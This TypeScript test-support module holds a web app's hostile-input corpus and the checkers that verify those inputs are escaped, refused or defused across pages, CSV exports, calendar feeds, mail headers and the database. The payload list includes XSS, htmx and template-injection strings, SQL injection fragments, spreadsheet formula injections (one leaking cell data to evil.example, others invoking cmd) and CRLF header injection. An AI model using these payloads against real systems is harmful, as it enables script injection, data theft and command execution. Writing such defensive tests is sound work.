// The hostile input corpus: one shared list of nasty strings, and the checks that every surface
// showing one of them shows it harmlessly. hostile-input.test.ts pushes each string through every
// text field of every form (stored and shown escaped, or refused with 422 and nothing stored);
// test/e2e/hostile-browser.test.ts loads the pages that show them in Chromium and watches for
// anything that runs; uploads.test.ts uses them as file names.
//
// A payload that runs calls the trap: `window.__pwned = 1`, `alert()`, or asks for a URL with
// `pwned` in it (an injected hx-get). The browser test listens for all three.
import type { Db } from '../../src/db/client.js';
import { parseCsv } from '../features/nominations/nomination-records.js';

export interface HostilePayload {
  /** A short name, for messages and the tally. */
  name: string;
  /** The text as a user would type it. */
  text: string;
  /**
   * How it travels in a urlencoded body when that is not what encodeURIComponent makes of `text`:
   * bytes that are not UTF-8 (a lone surrogate, 0xFF, an overlong `<`), which no browser would
   * send from a form but anyone can put on the wire.
   */
  encoded?: string;
}

const TRAP = 'window.__pwned=1';

function typed(name: string, text: string): HostilePayload {
  return { name, text };
}

// The server's form parser keeps a percent sequence that is not UTF-8 as the characters typed
// (`%FF` stays `%FF`): that is the text the app receives, and what it stores.
function onTheWire(name: string, encoded: string): HostilePayload {
  return { name, text: encoded, encoded };
}

export const PAYLOADS: readonly HostilePayload[] = [
  typed('script tag', `<script>${TRAP};alert(1)</script>`),
  typed('img onerror, double quotes', `<img src=x onerror="${TRAP}">`),
  typed('img onerror, single quotes', `<img src=x onerror='${TRAP}'>`),
  typed('out of a double-quoted attribute', `"><img src=x onerror=${TRAP}>`),
  typed('out of a single-quoted attribute', `'><img src=x onerror=${TRAP}>`),
  typed('on* attribute inside double quotes', `" autofocus onfocus="${TRAP}" x="`),
  typed('on* attribute inside single quotes', `' autofocus onfocus='${TRAP}' x='`),
  typed('hx-get inside double quotes', `" hx-get="/pwned-hx" hx-trigger="load" x="`),
  typed('hx-on inside single quotes', `' hx-on:htmx:load='${TRAP}' hx-get='/pwned-hx' hx-trigger='load`),
  typed('htmx element', `<div hx-get="/pwned-hx" hx-trigger="load" hx-on::before-request="${TRAP}">x</div>`),
  typed('javascript: URL', `javascript:${TRAP}//`),
  typed('javascript: link', `<a href="javascript:${TRAP}">click me</a>`),
  typed('SVG onload', `<svg onload=${TRAP}>`),
  typed('SVG script', `<svg><script>${TRAP}</script></svg>`),
  typed('iframe srcdoc', `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`),
  typed('closes a textarea', `</textarea><script>${TRAP}</script>`),
  typed('closes the title', `</title><script>${TRAP}</script>`),
  typed(
    'base and meta refresh',
    `<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=/pwned-meta">`,
  ),
  typed('style element', '<style>body{display:none}</style>'),
  typed('HTML comment opener', '<!-- the rest is hidden'),
  typed('entities already escaped', `&lt;script&gt;${TRAP}&lt;/script&gt; &amp; &#39; &quot;`),
  typed('eta output tag', '<%= it %>'),
  typed('eta raw tag', '<%~ process.exit() %>'),
  typed(
    'eta code and other template syntax',
    `<% throw new Error("eta ran") %> {{constructor.constructor('${TRAP}')()}} \${7*7} #{7*7}`,
  ),
  typed('SQL fragment', "'; DROP TABLE users;--"),
  typed('SQL boolean', '" OR 1=1 --'),
  typed('formula =', '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
  typed('formula +', "+1+cmd|' /C calc'!A0"),
  typed('formula -', "-2+3+cmd|' /C calc'!A0"),
  typed('formula @', "@SUM(1+1)*cmd|' /C calc'!A0"),
  typed('formula after a tab', '\t=1+1'),
  typed('right-to-left override', 'Bristol\u202Efdp.exe\u202C'),
  typed('bidi isolates', '\u2067evil\u2069 \u2066city\u2069'),
  typed('zero-width characters', 'Ams\u200Bter\u200Cdam\u200D\u2060\uFEFFcity'),
  typed('CR/LF header injection', 'x\r\nBcc: evil@evil.example\r\nX-Injected: 1'),
  typed('LF header injection', 'x\nSubject: injected\nBcc: evil@evil.example'),
  typed('CR header injection', 'x\rTo: evil@evil.example'),
  typed('calendar line injection', 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nX-INJECTED:1'),
  typed('calendar text specials', 'a;b,c\\d:e'),
  typed('unicode line separators', 'a\u2028b\u2029c\u0085d'),
  typed('NUL', 'a\u0000b'),
  typed('other control characters', 'a\u0007b\u001Bc\u007Fd'),
  onTheWire('invalid UTF-8: lone surrogate', 'x%ED%A0%80y'),
  onTheWire('invalid UTF-8: 0xFF', 'x%FFy'),
  onTheWire('invalid UTF-8: overlong <', '%C0%BCscript%C0%BE'),
  typed('other scripts and emoji', 'Zürich 東京 القاهرة 🏙️'),
];

/** Longer than the field allows: must be refused (422) with nothing stored. */
export function overMax(max: number): HostilePayload {
  return { name: `over ${max} characters`, text: fill(max + 1) };
}

/** Exactly as long as the field allows: stored, and shown escaped like any other. */
export function atMax(max: number): HostilePayload {
  return { name: `${max} characters`, text: fill(max) };
}

function fill(length: number): string {
  return `<img src=x onerror=${TRAP}>`.repeat(Math.ceil(length / 30)).slice(0, length);
}

/** Valid e-mail addresses a spreadsheet or an attribute could still trip over. */
export const HOSTILE_EMAILS = [
  "o'brien.x@evil.example",
  '+formula@evil.example',
  '-cmd@evil.example',
] as const;

// --- Sending forms ------------------------------------------------------------------------------

export type FormValue = string | readonly string[] | HostilePayload;
export type HostileForm = Record<string, FormValue>;

export function isPayload(value: FormValue): value is HostilePayload {
  return typeof value === 'object' && !Array.isArray(value) && 'text' in (value as object);
}

/** A urlencoded body (or query string), with each payload as it travels on the wire. */
export function encodeForm(form: HostileForm): string {
  const parts: string[] = [];
  for (const [name, value] of Object.entries(form)) {
    const values = isPayload(value)
      ? [value.encoded ?? encodeURIComponent(value.text)]
      : (typeof value === 'string' ? [value] : value).map(encodeURIComponent);
    for (const item of values) parts.push(`${encodeURIComponent(name)}=${item}`);
  }
  return parts.join('&');
}

/** What zod's .trim() leaves of a payload: what a stored field holds. */
export function trimmed(text: string): string {
  return text.trim();
}

// --- Checking HTML ------------------------------------------------------------------------------

/** The text as the pages (eta) escape it, and as the mail's plain-text-to-HTML escapes it. */
export function htmlEscapings(text: string): string[] {
  const named = text.replace(
    /[&<>"']/g,
    (ch) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[ch]!,
  );
  const numeric = text.replace(/[&<>"']/g, (ch) => `&#${ch.charCodeAt(0)};`);
  return [...new Set([named, numeric])];
}

/**
 * Why `html` does not show `stored` harmlessly, or null when it does: the escaped text must be
 * there (so the check can fail: the page really shows this value), and the raw text, where it
 * differs, must not be.
 */
export function escapingProblem(html: string, stored: string): string | null {
  const escaped = htmlEscapings(stored);
  if (!escaped.some((form) => html.includes(form))) return 'the value is not shown (escaped) at all';
  if (escaped[0] !== stored && html.includes(stored)) return 'the value is shown unescaped';
  return null;
}

/** Why `html` holds the value, or null when it does not hold it in any form (it must not be echoed). */
export function echoProblem(html: string, stored: string): string | null {
  if (stored.length < 4) return null;
  if (html.includes(stored)) return 'the value is echoed raw';
  if (htmlEscapings(stored).some((form) => html.includes(form))) return 'the value is echoed';
  return null;
}

interface Tag {
  name: string;
  attributes: Array<[string, string]>;
  /** The text of a raw-text element (script, style), up to its end tag. */
  content?: string;
}

const RAW_TEXT = new Set([
  'script',
  'style',
  'textarea',
  'title',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'plaintext',
]);

/**
 * The start tags of a page, read the way a browser's tokenizer reads them (quoted attribute values,
 * comments, raw-text elements), so that text which only looks like markup inside an attribute
 * value or a textarea is not taken for markup, and markup that is real is not missed.
 */
export function startTags(html: string): Tag[] {
  const tags: Tag[] = [];
  let i = 0;
  const n = html.length;
  const isSpace = (ch: string | undefined) =>
    ch === ' ' || ch === '\t' || ch === '\n' || ch === '\r' || ch === '\f';
  while (i < n) {
    const lt = html.indexOf('<', i);
    if (lt < 0) break;
    i = lt + 1;
    if (html.startsWith('!--', i)) {
      const end = html.indexOf('-->', i + 3);
      i = end < 0 ? n : end + 3;
      continue;
    }
    if (html[i] === '!' || html[i] === '?' || html[i] === '/') {
      const end = html.indexOf('>', i);
      i = end < 0 ? n : end + 1;
      continue;
    }
    if (!/[A-Za-z]/.test(html[i] ?? '')) continue;
    let name = '';
    while (i < n && !isSpace(html[i]) && html[i] !== '>' && html[i] !== '/') name += html[i++];
    const tag: Tag = { name: name.toLowerCase(), attributes: [] };
    for (;;) {
      while (i < n && (isSpace(html[i]) || html[i] === '/')) i += 1;
      if (i >= n || html[i] === '>') {
        i += 1;
        break;
      }
      let attribute = '';
      while (
        i < n &&
        !isSpace(html[i]) &&
        html[i] !== '>' &&
        html[i] !== '/' &&
        (html[i] !== '=' || attribute === '')
      )
        attribute += html[i++];
      while (i < n && isSpace(html[i])) i += 1;
      let value = '';
      if (html[i] === '=') {
        i += 1;
        while (i < n && isSpace(html[i])) i += 1;
        const quote = html[i];
        if (quote === '"' || quote === "'") {
          const end = html.indexOf(quote, i + 1);
          value = html.slice(i + 1, end < 0 ? n : end);
          i = end < 0 ? n : end + 1;
        } else {
          while (i < n && !isSpace(html[i]) && html[i] !== '>') value += html[i++];
        }
      }
      tag.attributes.push([attribute.toLowerCase(), value]);
    }
    if (RAW_TEXT.has(tag.name)) {
      const end = html.toLowerCase().indexOf(`</${tag.name}`, i);
      tag.content = html.slice(i, end < 0 ? n : end);
      i = end < 0 ? n : end;
    }
    tags.push(tag);
  }
  return tags;
}

// The htmx attributes the app's own templates write; any other is someone else's.
const APP_HTMX = new Set(['hx-post', 'hx-get', 'hx-target', 'hx-swap', 'hx-trigger', 'hx-disabled-elt']);
const FORBIDDEN_ELEMENTS = new Set([
  'iframe',
  'object',
  'embed',
  'base',
  'frame',
  'frameset',
  'applet',
  'style',
]);
const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster']);

/**
 * A link or source a payload planted: a script URL, another site, or a path the payloads name
 * (`/pwned…`). A payload in a link's query string (a filter carried to the CSV export) is data.
 */
function leadsAway(value: string, element: string): boolean {
  const entities = value
    .replace(/&amp;/g, '&')
    .replace(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code)));
  if (/^\s*(javascript|vbscript|data):/i.test(entities)) return element !== 'img';
  try {
    const url = new URL(entities, 'http://app.invalid/');
    return url.hostname !== 'app.invalid' && url.hostname !== 'localhost'
      ? url.hostname.includes('evil')
      : url.pathname.includes('pwned');
  } catch {
    return false;
  }
}

/**
 * Markup on the page that would run or act: scripts other than the app's own files, event
 * handler attributes, htmx attributes the app does not write (or that point at `pwned`),
 * javascript: URLs, frames, base and refresh. Empty for a page that carries payloads harmlessly.
 */
export function activeMarkup(html: string): string[] {
  const found: string[] = [];
  for (const tag of startTags(html)) {
    const attribute = (name: string) => tag.attributes.find(([key]) => key === name)?.[1];
    if (
      tag.name === 'script' &&
      (!attribute('src')?.startsWith('/static/') || (tag.content ?? '').trim() !== '')
    )
      found.push(`a script that is not one of the app's files: <script ${JSON.stringify(tag.attributes)}>`);
    if (FORBIDDEN_ELEMENTS.has(tag.name)) found.push(`a <${tag.name}> element`);
    if (tag.name === 'meta' && attribute('http-equiv') !== undefined) found.push('a <meta http-equiv>');
    if (tag.name === 'link' && !attribute('href')?.startsWith('/static/'))
      found.push('a <link> to elsewhere');
    for (const [name, value] of tag.attributes) {
      if (name.startsWith('on')) found.push(`an event handler ${name}= on <${tag.name}>`);
      if (name.startsWith('hx-') || name.startsWith('data-hx-')) {
        if (!APP_HTMX.has(name) || value.includes('pwned'))
          found.push(`an htmx attribute ${name}="${value}" on <${tag.name}>`);
      }
      if (name === 'srcdoc') found.push(`a srcdoc on <${tag.name}>`);
      if (URL_ATTRIBUTES.has(name) && leadsAway(value, tag.name))
        found.push(`a ${name}="${value}" on <${tag.name}>`);
    }
  }
  return found;
}

// --- Checking CSV -------------------------------------------------------------------------------

/** A cell a spreadsheet would run as a formula (OWASP's list of leading characters). */
export function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell);
}

/** What a CSV export should hold for a stored value: the value, defused with ' when it is a formula. */
export function defused(stored: string): string {
  return isFormula(stored) ? `'${stored}` : stored;
}

/** The rows of a CSV export as records by header; every row has the header's width. */
export function csvRecords(text: string): Array<Record<string, string>> {
  const [header, ...rows] = parseCsv(text);
  if (!header) throw new Error('the CSV export is empty');
  return rows.map((row) => {
    if (row.length !== header.length)
      throw new Error(
        `a CSV row has ${row.length} cells, the header ${header.length}: ${JSON.stringify(row)}`,
      );
    return Object.fromEntries(header.map((name, index) => [name, row[index]!]));
  });
}

/** Every cell of a CSV export that a spreadsheet would run. */
export function formulaCells(text: string): string[] {
  return parseCsv(text)
    .flat()
    .filter((cell) => isFormula(cell));
}

// --- Checking calendar feeds --------------------------------------------------------------------

// The properties a feed holds (RFC 5545 and the usual X- names); an injected line adds another.
const ICS_PROPERTIES = new Set([
  'BEGIN',
  'END',
  'VERSION',
  'PRODID',
  'NAME',
  'X-WR-CALNAME',
  'DESCRIPTION',
  'X-WR-CALDESC',
  'REFRESH-INTERVAL',
  'X-PUBLISHED-TTL',
  'UID',
  'SEQUENCE',
  'DTSTAMP',
  'DTSTART',
  'DTEND',
  'SUMMARY',
  'URL',
  'TRANSP',
  'X-MICROSOFT-CDO-ALLDAYEVENT',
  'X-MICROSOFT-MSNCALENDAR-ALLDAYEVENT',
  'X-MICROSOFT-CDO-BUSYSTATUS',
]);

/** The feed's content lines, unfolded (RFC 5545, 3.1). */
export function icsLines(feed: string): string[] {
  return feed
    .replace(/\r\n[ \t]/g, '')
    .split('\r\n')
    .filter((line) => line !== '');
}

/** Lines whose property the feed should not have, and lines not ended by CRLF. */
export function icsProblems(feed: string): string[] {
  const problems: string[] = [];
  if (/\r(?!\n)|(?<!\r)\n/.test(feed)) problems.push('a bare CR or LF inside a line');
  // RFC 5545 (3.1, 3.3.11): no control character but HTAB in a content line; a reader may reject
  // the whole feed over one.
  for (const line of icsLines(feed))
    if ([...line].some((ch) => ch !== '\t' && isControl(ch)))
      problems.push(`a control character in ${JSON.stringify(line.slice(0, 80))}`);
  for (const line of icsLines(feed)) {
    const name = /^[A-Za-z0-9-]+/.exec(line)?.[0]?.toUpperCase() ?? '';
    if (!ICS_PROPERTIES.has(name)) problems.push(`an unexpected line: ${JSON.stringify(line.slice(0, 80))}`);
    if (name === 'BEGIN' || name === 'END') {
      if (!/^(BEGIN|END):(VCALENDAR|VEVENT)$/.test(line)) problems.push(`an unexpected ${line}`);
    }
  }
  return problems;
}

/** An ASCII control character (C0 or DEL). */
export function isControl(ch: string): boolean {
  const code = ch.charCodeAt(0);
  return code < 0x20 || code === 0x7f;
}

/** What a calendar feed shows of a text: control characters it may not hold become U+FFFD. */
export function asInFeed(text: string): string {
  return Array.from(text, (ch) => (isControl(ch) && !'\t\r\n'.includes(ch) ? '\uFFFD' : ch)).join('');
}

/** A TEXT value as RFC 5545 escapes it (backslash, semicolon, comma, line breaks). */
export function icsEscaped(text: string): string {
  return text.replace(/[\\;,]/g, (ch) => `\\${ch}`).replace(/\r\n|\r|\n/g, '\\n');
}

// --- Checking mail ------------------------------------------------------------------------------

/** The header fields of an .eml file, unfolded: [name, value] in order. */
export function emlHeaders(eml: string): Array<[string, string]> {
  const end = eml.search(/\r?\n\r?\n/);
  const block = eml.slice(0, end < 0 ? undefined : end).replace(/\r?\n[ \t]/g, ' ');
  return block.split(/\r?\n/).map((line) => {
    const colon = line.indexOf(':');
    return [line.slice(0, colon < 0 ? undefined : colon), line.slice(colon + 1).trim()];
  });
}

export const MAIL_HEADERS = new Set([
  'Content-Type',
  'From',
  'To',
  'Subject',
  'Message-ID',
  'Date',
  'MIME-Version',
  'Content-Transfer-Encoding',
]);

// --- The database ---------------------------------------------------------------------------------

// Tables a refused request may still write by design: sessions are renewed, failed logins counted
// (and with them SQLite's id counters), the audit checkpoint re-hashed on a view, job leases taken.
const VOLATILE_TABLES = new Set([
  'sessions',
  'login_failures',
  'sqlite_sequence',
  'audit_checkpoints',
  'job_leases',
]);

/** Every row of every table a refused form must leave alone, by table, to compare before and after. */
export function storedState(db: Db): Record<string, string> {
  const sqlite = db.$client;
  const tables = sqlite
    .prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
    .all() as Array<{ name: string }>;
  return Object.fromEntries(
    tables
      .filter(({ name }) => !VOLATILE_TABLES.has(name))
      .map(({ name }) => [name, JSON.stringify(sqlite.prepare(`SELECT * FROM "${name}"`).all())]),
  );
}

/** The tables whose rows differ between two states (empty when nothing was stored). */
export function changedTables(before: Record<string, string>, after: Record<string, string>): string[] {
  return [...new Set([...Object.keys(before), ...Object.keys(after)])].filter(
    (name) => before[name] !== after[name],
  );
}

// --- The figure -----------------------------------------------------------------------------------

/** Each payload x field x surface actually checked, once. */
export class Tally {
  private readonly checked = new Set<string>();
  private readonly parts = {
    payloads: new Set<string>(),
    fields: new Set<string>(),
    surfaces: new Set<string>(),
  };

  record(payload: string, field: string, surface: string) {
    this.checked.add(JSON.stringify([payload, field, surface]));
    this.parts.payloads.add(payload);
    this.parts.fields.add(field);
    this.parts.surfaces.add(surface);
  }

  /** The (payload, field) pairs checked on at least one surface. */
  pairs(): Set<string> {
    return new Set([...this.checked].map((key) => JSON.stringify((JSON.parse(key) as string[]).slice(0, 2))));
  }

  summary() {
    return {
      payloads: this.parts.payloads.size,
      fields: this.parts.fields.size,
      surfaces: this.parts.surfaces.size,
      checks: this.checked.size,
    };
  }
}
